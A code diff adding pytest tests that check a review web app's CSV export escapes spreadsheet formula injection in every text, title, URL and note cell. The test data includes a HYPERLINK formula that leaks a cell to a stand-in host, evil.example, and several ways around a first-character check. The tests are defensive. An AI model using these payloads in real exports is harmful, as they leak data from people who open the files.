@@ -4,7 +4,7 @@ import json
 import pytest
 from credibility.webapp import reviews as rv
 from credibility.webapp import store as st
-from sqlalchemy import update
+from sqlalchemy import func, update
 
 from credibility.errors import InvalidInputError
 
@@ -263,3 +263,43 @@ def test_api_review_of_a_missing_result_and_the_token(web, monkeypatch):
 def test_a_note_with_a_nul_is_stored(store):
     scored(store, "a", "low", 0.1)
     assert rv.add_review(store, "a", "credible", "see\x00this")["note"] == "see\ufffdthis"
+
+
+# What a spreadsheet would run, and the ways around a first-character check (issue 20, 3).
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
+    "+1+1",
+    "@SUM(1+1)",
+    "-2+3",
+    "\t=1+1",
+    "\r=1+1",
+    "  =1+1",
+]
+
+
+def test_the_export_escapes_every_cell_a_reviewer_or_scorer_wrote(store, tmp_path):
+    for i, formula in enumerate(FORMULAS):
+        scored(store, f"r{i}", "low", 0.1, article=formula, kind="text", title=formula, url=formula)
+        rv.add_review(store, f"r{i}", "credible", "x" + formula)  # the note is stripped first
+    with store.engine.begin() as conn:  # a note as an older version stored it, unstripped
+        conn.execute(update(st.reviews).values(note=func.substr(st.reviews.c.note, 2)))
+    path = tmp_path / "labelled.csv"
+    rv.export_csv(store, path)
+    with path.open(newline="", encoding="utf-8") as f:
+        rows = list(csv.DictReader(f))
+    escaped = ["'" + formula for formula in FORMULAS]
+    for name in ("text", "title", "url", "note"):
+        assert [row[name] for row in rows] == escaped, name
+
+
+def test_the_reviews_download_escapes_formulas(web):
+    store = web.application.extensions["credibility_store"]
+    scored(store, "a" * 32, "low", 0.1, article="Text.", kind="html", title="+cmd", url="@x")
+    rv.add_review(store, "a" * 32, "credible", '=HYPERLINK("http://evil.example","Click")')
+    (row,) = csv.DictReader(web.get("/reviews.csv").get_data(as_text=True).splitlines(True))
+    assert (row["html"], row["title"], row["url"], row["note"]) == (
+        "Text.",
+        "'+cmd",
+        "'@x",
+        '\'=HYPERLINK("http://evil.example","Click")',
+    )
